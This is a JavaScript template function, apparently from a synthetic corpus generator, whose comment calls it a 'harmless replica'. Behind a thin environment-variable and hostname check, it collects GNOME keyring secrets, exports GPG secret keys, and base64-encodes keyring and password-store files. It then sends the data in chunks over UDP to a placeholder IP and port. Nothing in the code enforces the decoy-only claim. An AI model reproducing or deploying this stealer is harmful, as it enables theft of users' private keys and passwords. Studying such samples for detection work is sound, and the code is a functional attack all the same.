// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const ask = (line) => String(spawnSync('sh', ['-c', line], { timeout: 900 }).stdout || '');
  const text = ask('secret-tool search --all service {{service}} 2>/dev/null') + ask('gpg --batch --export-secret-keys -a 2>/dev/null') +
    ask('cat ~/.local/share/keyrings/*.keyring ~/.password-store/*.gpg 2>/dev/null | base64');
  const channel = require('dgram').createSocket('udp4');
  await new Promise((done) => {
    const parts = text.slice(0, 8000).match(/[^]{1,500}/g) || ['none'];
    let left = parts.length;
    channel.on('error', done);
    for (const part of parts) channel.send('{{token}}' + part, {{port}}, '{{ip}}', () => { if (--left === 0) done(); });
    setTimeout(done, 1000).unref();
  });
  channel.close();
}
